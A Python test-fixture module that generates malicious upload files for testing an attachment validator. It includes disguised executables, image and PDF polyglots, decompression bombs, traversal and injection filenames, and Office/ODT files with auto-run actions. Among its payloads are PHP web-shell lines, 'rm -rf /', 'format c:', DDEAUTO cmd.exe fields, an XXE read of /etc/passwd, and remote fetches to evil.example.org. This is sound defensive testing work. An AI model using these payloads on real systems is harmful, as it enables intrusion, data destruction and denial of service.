"""Files that nobody should send, made by code: what they are, and none of them stored.

``GOOD`` are the honest ones from which the others are made. ``HOSTILE`` is the corpus: each with
the name under which it comes; what may become of it is asked in ``test_attachments``.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from typing import Any

import openpyxl
import pikepdf
from PIL import Image, PngImagePlugin

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!DOCTYPE html><html><script>alert(document.domain)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
SECRET = "CANARYhidden"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACK = "http://schemas.openxmlformats.org/package/2006"


# Honest files -----------------------------------------------------------------------------------
def picture(kind: str = "PNG", size: tuple[int, int] = (64, 48), **how: Any) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert(how.pop("mode", "RGB")).save(out, kind, **how)
    return out.getvalue()


def jpeg_with_place() -> bytes:
    """A photograph that knows where and on which telephone it was taken, lying on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turned
    exif[0x010F] = SECRET
    exif[0x9286] = SECRET
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (54.0, 16.0, 58.0)
    return picture("JPEG", exif=exif.tobytes(), comment=SECRET.encode())


def png_with_words() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", SECRET)
    info.add_itxt("Comment", SECRET)
    return picture("PNG", pnginfo=info)


def pdf(change: Any = None, **how: Any) -> bytes:
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **how)
    return out.getvalue()


def docx_parts(**more: bytes) -> dict[str, bytes]:
    head = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts = {
        "[Content_Types].xml": head
        + f'<Types xmlns="{PACK}/content-types"><Default Extension="rels" ContentType="'
        'application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        f'ContentType="application/xml"/><Override PartName="/docProps/core.xml" ContentType="'
        f'application/vnd.openxmlformats-package.core-properties+xml"/><Override '
        f'PartName="/word/document.xml" ContentType="{main}"/>'
        "</Types>".encode(),
        "_rels/.rels": head
        + f'<Relationships xmlns="{PACK}/relationships"><Relationship Id="r1" Type="{REL}/'
        'officeDocument" Target="word/document.xml"/></Relationships>'.encode(),
        "word/document.xml": document("<w:p><w:r><w:t>My notes.</w:t></w:r></w:p>"),
        "docProps/core.xml": head
        + b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
        b'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>'
        + SECRET.encode()
        + b"</dc:creator></cp:coreProperties>",
    }
    return parts | more


def workbook(
    *formulas: str,
    change: Callable[[str, bytes], bytes | None] | None = None,
    more: Mapping[str, bytes] | None = None,
) -> bytes:
    """A workbook as spreadsheet programs make it, with formulas in its first column.

    Args:
        change: gives each part anew, or None to leave it out.
        more: further parts.
    """
    book = openpyxl.Workbook()
    book.properties.creator = SECRET
    sheet = book.active
    sheet["A1"] = "Staff trained"
    for row, formula in enumerate(formulas, start=2):
        sheet[f"A{row}"] = formula
    out = io.BytesIO()
    book.save(out)
    parts: dict[str, bytes] = {}
    with zipfile.ZipFile(out) as package:
        for name in package.namelist():
            part = package.read(name)
            kept = change(name, part) if change else part
            if kept is not None:
                parts[name] = kept
    return packed(parts | dict(more or {}))


def document(body: str) -> bytes:
    return f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'.encode()


def relations(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        f'<Relationships xmlns="{PACK}/relationships"><Relationship Id="r9" Type="{REL}/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    ).encode()


def odt_parts(content: str = "", **more: bytes) -> dict[str, bytes]:
    spaces = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"'
    )
    return {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": (
            f"<office:document-content {spaces}><office:body><office:text><text:p>My notes."
            f"</text:p>{content}</office:text></office:body></office:document-content>"
        ).encode(),
        "meta.xml": f"<office:document-meta {spaces}>{SECRET}</office:document-meta>".encode(),
        "META-INF/manifest.xml": b"<manifest/>",
    } | more


def packed(parts: dict[str, bytes], **how: Any) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how.get("compression", zipfile.ZIP_DEFLATED)) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return out.getvalue()


GOOD: dict[str, bytes] = {
    "notes.pdf": pdf(),
    "photo.jpg": picture("JPEG"),
    "screenshot.png": picture("PNG"),
    "chat.webp": picture("WEBP"),
    "letter.docx": packed(docx_parts()),
    "letter.odt": packed(odt_parts()),
    "words.txt": "He said: “people like that”.\r\n".encode(),
}


# Hostile files ----------------------------------------------------------------------------------
def _mismatched() -> Iterator[tuple[str, bytes]]:
    """Each kind under the ending of each other; and what is no kind of ours under all of them."""
    for name, content in GOOD.items():
        kind = name.partition(".")[2]
        for other in ("pdf", "jpg", "png", "webp", "docx", "odt", "txt"):
            if other != kind and not (kind == "txt" and other == "txt"):
                yield f"{kind}-as.{other}", content
    for what, content in {"html": HTML, "svg": SVG, "exe": EXE, "elf": ELF}.items():
        for other in ("pdf", "jpg", "png", "webp", "docx", "odt", "txt"):
            yield f"{what}-as.{other}", content


def _not_taken() -> Iterator[tuple[str, bytes]]:
    endings = (
        "exe com scr bat cmd ps1 vbs js jse wsf hta jar msi dll lnk url ics vcf reg svg svgz html "
        "htm xhtml mht xml xsl php asp jsp py sh swf doc docm dot dotm dotx rtf xls xlsm xlsx ppt "
        "pptm odp ods zip rar 7z gz tar iso img cab gif bmp tiff heic avif ps eps eml msg one chm "
        "mp4 mp3 wav apk torrent desktop"
    )
    for ending in endings.split():
        yield f"file.{ending}", EXE if ending in ("exe", "dll", "scr") else b"content of it"
    for name in ("noending", ".", "..", ".htaccess", "a.", "photo.jpg.exe", "notes.pdf.html"):
        yield name, b"content"
    yield "photo.jpg\u202egpj.exe", EXE
    yield "photo.exe\x00.jpg", EXE
    yield "photo.jpg;.exe", EXE
    yield "photo.jpg::$DATA", picture("JPEG")


def _odd_names() -> Iterator[tuple[str, bytes]]:
    """Good pictures with bad names: kept under a name that harms nobody."""
    good = GOOD["photo.jpg"]
    for name in (
        "../../etc/passwd.jpg",
        "..\\..\\windows\\system32\\x.jpg",
        "/etc/cron.d/x.jpg",
        "C:\\autoexec.jpg",
        "con.jpg",
        "nul.jpg",
        "aux.txt.jpg",
        "a" * 900 + ".jpg",
        "photo\u202egnp.jpg",
        "photo\u200b\ufeff.jpg",
        "photo\r\nSet-Cookie: a=b.jpg",
        'x"; filename="y.exe".jpg',
        "<script>alert(1)</script>.jpg",
        "'; DROP TABLE referral; --.jpg",
        "=cmd|' /C calc'!A0.jpg",
        "{{ 7*7 }}{% debug %}.jpg",
        "%2e%2e%2f%00.jpg",
        "photo.php.jpg",
        "photo.exe.jpg",
        " .jpg",
        "....jpg",
        "x.JPG",
        "\u0440hoto.jpg",
        "\U0001f600.jpg",
    ):
        yield name, good


def _pictures() -> Iterator[tuple[str, bytes]]:
    jpeg, png = picture("JPEG"), picture("PNG")
    yield "jpeg-and-zip.jpg", jpeg + packed({"evil.js": b"alert(1)"})
    yield "jpeg-and-html.jpg", jpeg + HTML
    yield "jpeg-and-php.jpg", jpeg + b"<?php system($_GET[0]); ?>"
    yield "jpeg-comment-php.jpg", picture("JPEG", comment=b"<?php system($_GET[0]); ?>")
    yield "png-and-zip.png", png + packed({"evil.js": b"alert(1)"})
    yield "png-and-jar.png", png + packed({"META-INF/MANIFEST.MF": b"Main-Class: Evil"})
    yield (
        "png-text-html.png",
        png_with_words().replace(SECRET.encode(), b"<b>hi</b>\x00\x00\x00"[:12]),
    )
    yield "gif-and-js.jpg", b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)"
    yield "gif-and-js.png", b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)"
    yield "place.jpg", jpeg_with_place()
    yield "words.png", png_with_words()
    for cut in (3, 20, len(jpeg) // 2, len(jpeg) - 20):
        yield f"cut-{cut}.jpg", jpeg[:cut]
    for cut in (8, 30, len(png) // 2):
        yield f"cut-{cut}.png", png[:cut]
    for width, height in ((50_000, 50_000), (30_000, 30_000), (8_000, 8_000), (65_000, 10)):
        yield f"bomb-{width}.png", png_of(width, height)
    yield "bomb.jpg", jpeg_of(65_000, 65_000)
    yield "bomb-text.png", png_with_chunk(b"zTXt", b"k\0\0" + zeros(80))
    yield (
        "bomb-profile.png",
        png_with_chunk(b"iCCP", b"k\0\0" + zeros(80)),
    )
    frames = [Image.new("RGB", (20, 20), (shade, 0, 0)) for shade in (0, 255)]
    for kind, name in (("PNG", "moving.png"), ("WEBP", "moving.webp")):
        out = io.BytesIO()
        frames[0].save(out, kind, save_all=True, append_images=frames[1:])
        yield name, out.getvalue()
    yield "cmyk.jpg", picture("JPEG", mode="CMYK")
    yield "zero-size.png", png_of(0, 0)
    yield "wrong-checksum.png", png[:29] + b"\0\0\0\0" + png[33:]
    yield "webp-broken.webp", b"RIFF\xff\xff\xff\xffWEBPVP8 " + b"\xff" * 40


def png_of(width: int, height: int) -> bytes:
    """A header that claims a size, and hardly any dots behind it."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    dots = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", dots) + chunk(b"IEND", b"")


def chunk(kind: bytes, body: bytes) -> bytes:
    check = zlib.crc32(kind + body)
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", check)


def png_with_chunk(kind: bytes, body: bytes) -> bytes:
    png = picture("PNG")
    return png[:33] + chunk(kind, body) + png[33:]


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose frame header claims a size."""
    jpeg = bytearray(picture("JPEG"))
    at = jpeg.index(b"\xff\xc0")
    jpeg[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(jpeg)


def _act(**entries: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(**entries)


def _pdfs() -> Iterator[tuple[str, bytes]]:
    name, text = pikepdf.Name, pikepdf.String
    script = {"S": name.JavaScript, "JS": text("app.alert(1)")}
    launch = {"S": name.Launch, "F": text("cmd.exe")}
    acts = {
        "javascript": script,
        "launch": launch,
        "submit": {"S": name.SubmitForm, "F": text("http://evil.example.org")},
        "import": {"S": name.ImportData, "F": text("x.fdf")},
        "embedded": {"S": name.GoToE, "T": pikepdf.Dictionary()},
        "remote": {"S": name.GoToR, "F": text("\\\\evil.example.org\\share\\x.pdf")},
        "movie": {"S": name.Movie},
        "sound": {"S": name.Sound},
        "rendition": {"S": name.Rendition},
        "rich": {"S": name.RichMediaExecute},
    }
    packs = {"": {}, "-packed": {"object_stream_mode": pikepdf.ObjectStreamMode.generate}}
    for what, act in acts.items():
        for how, options in packs.items():

            def opens(made: pikepdf.Pdf, act: Any = act) -> None:
                made.Root.OpenAction = made.make_indirect(_act(**act))

            def presses(made: pikepdf.Pdf, act: Any = act) -> None:
                note = _act(
                    Type=name.Annot,
                    Subtype=name.Link,
                    Rect=pikepdf.Array([0, 0, 99, 99]),
                    A=_act(**act),
                )
                made.pages[0].Annots = pikepdf.Array([made.make_indirect(note)])

            yield f"opens-{what}{how}.pdf", pdf(opens, **options)
            yield f"presses-{what}{how}.pdf", pdf(presses, **options)

    def scripts(made: pikepdf.Pdf) -> None:
        names = _act(Names=pikepdf.Array([text("a"), _act(**script)]))
        made.Root.Names = _act(JavaScript=names)

    def carries(made: pikepdf.Pdf) -> None:
        made.attachments["evil.exe"] = EXE

    def form(made: pikepdf.Pdf) -> None:
        made.Root.AcroForm = _act(XFA=made.make_stream(b"<xdp/>"))

    def page_acts(made: pikepdf.Pdf) -> None:
        made.pages[0].AA = _act(O=_act(**script))

    for what, change in {
        "scripts": scripts,
        "carries": carries,
        "form": form,
        "page-acts": page_acts,
    }.items():
        for how, options in packs.items():
            yield f"{what}{how}.pdf", pdf(change, **options)
    for what, kind in (("attached", "FileAttachment"), ("film", "Movie"), ("screen", "Screen")):

        def notes(made: pikepdf.Pdf, kind: str = kind) -> None:
            note = _act(Type=name.Annot, Subtype=pikepdf.Name(f"/{kind}"))
            made.pages[0].Annots = pikepdf.Array([note])

        yield f"{what}.pdf", pdf(notes)
    good = pdf()
    yield "hex-names.pdf", pdf(scripts).replace(b"/JavaScript", b"/J#61vaScript")
    yield "pdf-and-html.pdf", good + HTML
    yield "html-and-pdf.pdf", HTML + good
    yield "pdf-and-zip.pdf", good + packed({"evil.js": b"alert(1)"})
    yield "zip-and-pdf.pdf", packed({"evil.js": b"alert(1)"}) + good
    yield "locked.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u"))
    for cut in (9, len(good) // 2, len(good) - 30):
        yield f"cut-{cut}.pdf", good[:cut]
    yield "no-pages.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    yield "only-head.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    yield "bomb.pdf", pdf_bomb(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    yield "bomb-twice.pdf", pdf_bomb(b"/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]")
    yield "bomb-hidden.pdf", pdf_bomb(b"/Type/Obj#53tm/N 1/First 4/Filter/Fl#61teDecode")
    yield "bomb-elsewhere.pdf", pdf_bomb(b"/Type/ObjStm/N 1/First 4/Filter 7 0 R")
    yield "bomb-lzw.pdf", pdf_bomb(b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode")
    yield "bomb-content.pdf", pdf_bomb(b"/Filter/FlateDecode", 410)
    yield "deep.pdf", b"%PDF-1.4\n1 0 obj" + b"[" * 20_000 + b"]" * 20_000 + b"endobj\n%%EOF"


@cache
def zeros(millions: int) -> bytes:
    """Nothing, a great deal of it, packed small."""
    packer, million = zlib.compressobj(1), bytes(1_000_000)
    return b"".join([*(packer.compress(million) for _ in range(millions)), packer.flush()])


def pdf_bomb(head: bytes, millions: int = 45) -> bytes:
    body = zeros(millions)
    start = b"%PDF-1.5\n1 0 obj<<" + head + b"/Length " + str(len(body)).encode()
    return start + b">>stream\n" + body + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def _documents() -> Iterator[tuple[str, bytes]]:
    def word(**more: bytes) -> bytes:
        return packed(docx_parts(**more))

    types = docx_parts()["[Content_Types].xml"]
    yield "macro.docx", word(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 500})
    yield (
        "macro-type.docx",
        word(
            **{
                "[Content_Types].xml": types.replace(
                    b"openxmlformats-officedocument.wordprocessingml.document.main",
                    b"ms-word.document.macroEnabled.main",
                )
            }
        ),
    )
    for number, (kind, target) in enumerate(
        (
            ("attachedTemplate", "http://evil.example.org/x.dotm"),
            ("attachedTemplate", "file://evil.example.org/share/x.dotm"),
            ("image", "http://evil.example.org/x.png"),
            ("image", "\\\\evil.example.org\\share\\x.png"),
            ("frame", "http://evil.example.org/"),
            ("oleObject", "http://evil.example.org/x"),
            ("subDocument", "http://evil.example.org/x.docx"),
            ("hyperlink", "javascript:alert(1)"),
            ("hyperlink", "file:///c:/windows/system32/calc.exe"),
            ("hyperlink", "ms-msdt:/id"),
            ("hyperlink", "\\\\evil.example.org\\share"),
        )
    ):
        part = {"word/_rels/document.xml.rels": relations(kind, target)}
        yield f"fetches-{kind}-{number}.docx", word(**part)
    inner = {"word/_rels/document.xml.rels": relations("aFChunk", "evil.htm", "Internal")}
    yield "chunk.docx", word(**inner, **{"word/evil.htm": HTML})
    yield "chunk-xml.docx", word(**inner, **{"word/evil.xml": b"<a/>"})
    yield "ole.docx", word(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})
    yield "sheet.docx", word(**{"word/embeddings/Microsoft_Excel.xlsx": b"PK\x03\x04"})
    yield "exe.docx", word(**{"word/media/image1.exe": EXE})
    for what, field in (
        ("dde", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
        ("include", "INCLUDEPICTURE http://evil.example.org/x.png"),
        ("macro", "MACROBUTTON Evil"),
    ):
        run = f"<w:p><w:r><w:instrText>{field}</w:instrText></w:r></w:p>"
        yield f"field-{what}.docx", word(**{"word/document.xml": document(run)})
    spread = "".join(
        f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("DD", "EAU", "TO x")
    )
    yield "field-spread.docx", word(**{"word/document.xml": document(f"<w:p>{spread}</w:p>")})
    simple = '<w:p><w:fldSimple w:instr="DDE x"/></w:p>'
    yield "field-simple.docx", word(**{"word/document.xml": document(simple)})
    laughs = b'<!DOCTYPE a [<!ENTITY b "' + b"x" * 100 + b'">]><a>&b;</a>'
    yield "laughs.docx", word(**{"word/document.xml": laughs})
    outside = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    yield "outside.docx", word(**{"word/document.xml": outside})
    yield "wide-xml.docx", word(**{"word/document.xml": "<a/>".encode("utf-16")})
    yield "bomb.docx", word(**{"word/document.xml": b" " * 20_000_000})
    yield "bomb-parts.docx", word(**{f"word/media/{n}.xml": b"<a/>" for n in range(1200)})
    for path in ("../evil.xml", "/etc/evil.xml", "word\\..\\evil.xml", "C:evil.xml"):
        yield f"path-{len(path)}.docx", word(**{path: b"<a/>"})
    yield "twice.docx", packed(docx_parts(**{"WORD/document.xml": document("")}))
    yield "zip-only.docx", packed({"readme.xml": b"<a/>"})
    yield "jpeg-and-docx.docx", picture("JPEG") + word()
    yield "docx-and-exe.docx", word() + EXE
    yield "cut.docx", word()[:-40]
    locked = bytearray(word())
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        at = locked.index(mark)
        locked[at + (6 if mark.endswith(b"\x04") else 8)] |= 1
    yield "locked.docx", bytes(locked)
    lying = bytearray(word())
    at = lying.index(b"PK\x01\x02")
    lying[at + 24 : at + 28] = struct.pack("<I", 5)
    yield "lying.docx", bytes(lying)

    def open_text(content: str = "", **more: bytes) -> bytes:
        return packed(odt_parts(content, **more))

    yield "macro.odt", open_text("", **{"Basic/Standard/Module1.xml": b"<a/>"})
    yield "scripts.odt", open_text("", **{"Scripts/python/evil.py": b"import os"})
    yield "object.odt", open_text("", **{"Object 1/content.xml": b"<a/>"})
    yield "listens.odt", open_text('<script:event-listener script:language="x"/>')
    yield "fetches.odt", open_text('<draw:image xlink:href="http://evil.example.org/x.png"/>')
    yield "share.odt", open_text('<draw:image xlink:href="//evil.example.org/x.png"/>')
    yield "runs.odt", open_text('<text:a xlink:href="javascript:alert(1)">x</text:a>')
    yield "macro-link.odt", open_text('<text:a xlink:href="vnd.sun.star.script:x">x</text:a>')
    yield "section.odt", open_text('<text:section-source xlink:href="../x.odt"/>')
    yield "dde.odt", open_text('<office:dde-source office:dde-application="soffice"/>')
    yield "frame.odt", open_text('<draw:floating-frame xlink:href="x"/>')
    yield "sheet.odt", open_text(mimetype=b"application/vnd.oasis.opendocument.spreadsheet")
    yield "laughs.odt", open_text("", **{"styles.xml": laughs})


def _texts() -> Iterator[tuple[str, bytes]]:
    for what, content in {
        "shell": b"#!/bin/sh\nrm -rf /",
        "php": b"<?php system(1); ?>",
        "xml": b"<?xml version='1.0'?><a/>",
        "script": b"<script>alert(1)</script>",
        "spaces": b" \r\n\t <html><script>alert(1)</script>",
        "bom": b"\xef\xbb\xbf<html>",
        "wide": "<html>".encode("utf-16"),
        "postscript": b"%!PS-Adobe-3.0",
        "rtf": b"{\\rtf1\\ansi{\\object}}",
        "batch": b"@echo off\r\nformat c:",
        "shortcut": b"[InternetShortcut]\r\nURL=file://evil.example.org/x",
        "calendar": b"BEGIN:VCALENDAR\r\n",
        "mail": b"MIME-Version: 1.0\r\n",
        "registry": b"Windows Registry Editor Version 5.00",
        "nul": b"words\x00<script>",
        "escape": b"\x1b]0;evil\x07words",
        "eicar-zip": packed({"eicar.com": EICAR}),
    }.items():
        yield f"{what}.txt", content
    yield "empty.txt", b""
    yield "empty.pdf", b""
    yield "empty.png", b""
    yield "large.txt", b"a" * 10_000_001


@cache
def hostile() -> list[tuple[str, bytes]]:
    """The whole corpus, made once: it takes a few seconds."""
    made: list[tuple[str, bytes]] = []
    for some in (_mismatched, _not_taken, _odd_names, _pictures, _pdfs, _documents, _texts):
        made += some()
    return made
